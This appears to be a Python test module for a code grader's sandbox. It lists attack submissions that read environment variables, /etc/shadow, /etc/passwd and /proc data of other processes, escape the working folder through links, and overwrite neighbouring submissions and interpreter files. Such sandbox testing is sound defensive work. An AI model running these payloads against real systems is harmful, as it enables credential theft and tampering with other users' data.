"""Files, environment, descriptors: what lies around the student's process."""

from __future__ import annotations

from tests.grader.attacks.attack import Attack
from tests.grader.attacks.problems import LEFT, REPORT, SECRET_AT_HOME, SECRET_FILE, problem
from tests.grader.attacks.tools import SEARCH, after

TITLE = "Files and environment"
AIM = "tests, settings, homes and other submissions, by any path"

_WALK = """
def walk(*roots):
    left = 4000
    for root in roots:
        for folder, below, names in os.walk(root):
            below[:] = [b for b in below if 'python3' not in b and b != 'msgpack'][:60]
            for name in names[:200]:
                left -= 1
                if left < 0: return
                path = os.path.join(folder, name)
                tell(path, 'path'); tell(read(path), path)
"""


def _linked(name: str, target: str) -> Attack:
    """The sample test reads a file of the student's: it must not follow where the file leads."""
    code = f"""
import os
def report():
    os.path.lexists('report.txt') and os.unlink('report.txt')
    {target}
"""
    return Attack(name, code, 0, REPORT)


#: Tests that look at what the student's code names, without opening it.
NAMED = problem(
    "def path(): return '.'\n",
    [
        f"import os\nassert {look}"
        for look in (
            "os.path.exists(path())",
            "os.path.getsize(path()) > 0",
            "os.access(path(), os.F_OK)",
            "os.stat(path()).st_mode and os.lstat(path()).st_mode",
        )
    ]
    + ["import pathlib\nassert pathlib.Path(path()).is_file()"],
)

ATTACKS = [
    Attack(
        "reads environment, arguments and whatever files there are",
        SEARCH
        + _WALK
        + """
def total(rows):
    tell(dict(os.environ), 'environment'); tell(sys.argv, 'arguments'); tell(os.getcwd(), 'here')
    walk('.', '/tmp', '/etc', '/home', '/root', '/var', '/agent', '/py/bin', '/run', '/opt')
    return 0
""",
        honest=1,
        often=True,
    ),
    Attack(
        "reads the service's secrets by name",
        after(
            SEARCH,
            f"for path in ({str(SECRET_FILE)!r}, {str(SECRET_AT_HOME)!r}, '/etc/shadow'):",
            "    tell(read(path), path)",
            "    for way in ('/proc/1/root', '/proc/self/root/../..', '/proc/self/cwd/../../..'):",
            "        tell(read(way + path), way)",
        ),
        honest=1,
        often=True,
    ),
    Attack(
        "reads the tests and notebooks beside the grader's own files",
        SEARCH
        + """
def total(rows):
    grader = os.path.dirname(sys.modules['grader'].__file__)
    roots = [grader + '/..', *sys.path, *(f'/proc/self/fd/{fd}' for fd in range(12))]
    for root in roots:
        for name in ('tests/grader/attacks/problems.py', 'notebooks', '.git', 'docs/attacks.md'):
            path = f'{root}/{name}'
            tell(read(path), path)
            try: print('found', os.listdir(path))
            except OSError: pass
    return 0
""",
        honest=1,
        often=True,
    ),
    Attack(
        "reads /etc/passwd and prints it",
        after("", "print(open('/etc/passwd').read()); print('zq7' + 'canary31x')"),
    ),
    Attack(
        "reads what /proc tells of the others",
        SEARCH
        + """
def total(rows):
    for pid in ['self', 'thread-self', *pids()]:
        for name in ('cmdline', 'environ', 'maps', 'status', 'mountinfo', 'stack', 'auxv'):
            tell(read(f'/proc/{pid}/{name}'), f'{pid} {name}')
        for name in ('fd', 'cwd', 'root', 'map_files', 'task'):
            try:
                for entry in os.listdir(f'/proc/{pid}/{name}')[:40]:
                    tell(read(f'/proc/{pid}/{name}/{entry}'), f'{pid} {name}')
            except OSError: pass
    return 0
""",
        honest=1,
        often=True,
    ),
    Attack(
        "finds a neighbour's folder in its command line and reads and poisons it",
        SEARCH
        + """
import glob, time
def total(rows):
    end = time.monotonic() + 0.3
    while time.monotonic() < end:
        places = {os.path.dirname(os.getcwd()), '/tmp', os.getcwd() + '/..'}
        for pid in pids():
            for word in read(f'/proc/{pid}/cmdline').split(bytes(1)):
                if word.startswith(b'/'): places.add(os.fsdecode(word))
            places.add(f'/proc/{pid}/cwd')
        for place in places:
            path = os.path.join(place, 'mine.txt')
            tell(read(path), path)
            if os.path.abspath(place) != os.getcwd() and os.path.exists(path):
                for name in ('mine.txt', 'time.py'):
                    try: open(os.path.join(place, name), 'w').write('raise SystemExit')
                    except OSError: pass
    return 0
""",
        honest=1,
        often=True,
    ),
    Attack(
        "reads the descriptors that it was born with",
        SEARCH
        + """
import fcntl, stat
def total(rows):
    for fd in range(3, 1024):
        try: kind = os.fstat(fd).st_mode
        except OSError: continue
        try: print(fd, oct(kind), os.readlink(f'/proc/self/fd/{fd}'))
        except OSError: pass
        try: tell(os.pread(fd, 100000, 0), fd)
        except OSError: pass
        try:
            for name in os.listdir(fd): tell(read(f'/proc/self/fd/{fd}/{name}'), name)
        except OSError: pass
    return 0
""",
        honest=1,
    ),
    Attack(
        "leads out of its folder by links",
        after(
            SEARCH,
            "for number, path in enumerate(('/', '/root', '/proc/1/root', '/proc/1/cwd', '..')):",
            "    try:",
            "        os.symlink(path, f'way{number}')",
            f"        for name in ({SECRET_FILE.name!r}, 'tmp/' + {SECRET_FILE.name!r}):",
            "            tell(read(f'way{number}/{name}'), path)",
            f"        os.link({str(SECRET_FILE)!r}, f'hard{{number}}')",
            "        tell(read(f'hard{number}'), 'hard')",
            "    except OSError: pass",
        ),
        honest=1,
    ),
    _linked(
        "lets a test read a secret through a link",
        f"os.symlink({str(SECRET_FILE)!r}, 'report.txt')",
    ),
    _linked(
        "lets a test read its own environment through a link",
        "os.symlink('/proc/self/environ', 'report.txt')",
    ),
    _linked(
        "lets a test read its own source through a link",
        "os.symlink('/proc/self/cmdline', 'report.txt')",
    ),
    _linked("lets a test wait for a pipe that nobody writes", "os.mkfifo('report.txt')"),
    _linked("lets a test read a device without end", "os.symlink('/dev/zero', 'report.txt')"),
    Attack(
        "has pandas read local files",
        """
import pandas
def total(rows):
    for path in ('/etc/passwd', '/proc/self/environ', 'file:///etc/shadow'):
        try: print(pandas.read_csv(path, sep='~').to_string())
        except Exception as error: print(type(error))
    return 0
""",
        honest=1,
        needs="pandas",
    ),
    Attack(
        "writes over the agent and Python",
        f"""
import os
for root in ('/agent', '/py', '/usr/lib', os.path.dirname(os.__file__)):
    for folder, _, names in os.walk(root):
        for name in names[:20]:
            try: open(os.path.join(folder, name), 'a').write('# {LEFT}')
            except OSError: pass
def total(rows): return 1
""",
    ),
    Attack(
        "watches shared folders",
        SEARCH
        + """
import ctypes, time
libc = ctypes.CDLL(None)
def total(rows):
    fd = libc.inotify_init1(2048)
    for place in (b'/tmp', b'..', b'/', b'/dev/shm', b'/var/tmp'):
        libc.inotify_add_watch(fd, place, 0xfff)
    time.sleep(0.2)
    try: tell(os.read(fd, 65536), 'watched')
    except OSError: pass
    return 0
""",
        honest=1,
    ),
    Attack(
        "locks what others may need",
        """
import fcntl, os
held = []
def total(rows):
    for place in ('/tmp', '..', '/', '/dev/null', '/etc/passwd', os.__file__):
        try:
            held.append(os.open(place, os.O_RDONLY))
            fcntl.flock(held[-1], fcntl.LOCK_EX | fcntl.LOCK_NB)
        except OSError: pass
    return sum(rows)
""",
        honest=4,
    ),
    Attack(
        "names a secret file, and lets the tests look whether it is there",
        f"def path(): return {str(SECRET_FILE)!r}\n",
        problem=NAMED,
        often=True,
    ),
    Attack(
        "names a secret file in a form of its own",
        f"def path(): return b'/proc/self/../../{str(SECRET_FILE).lstrip('/')}'\n",
        problem=NAMED,
    ),
]
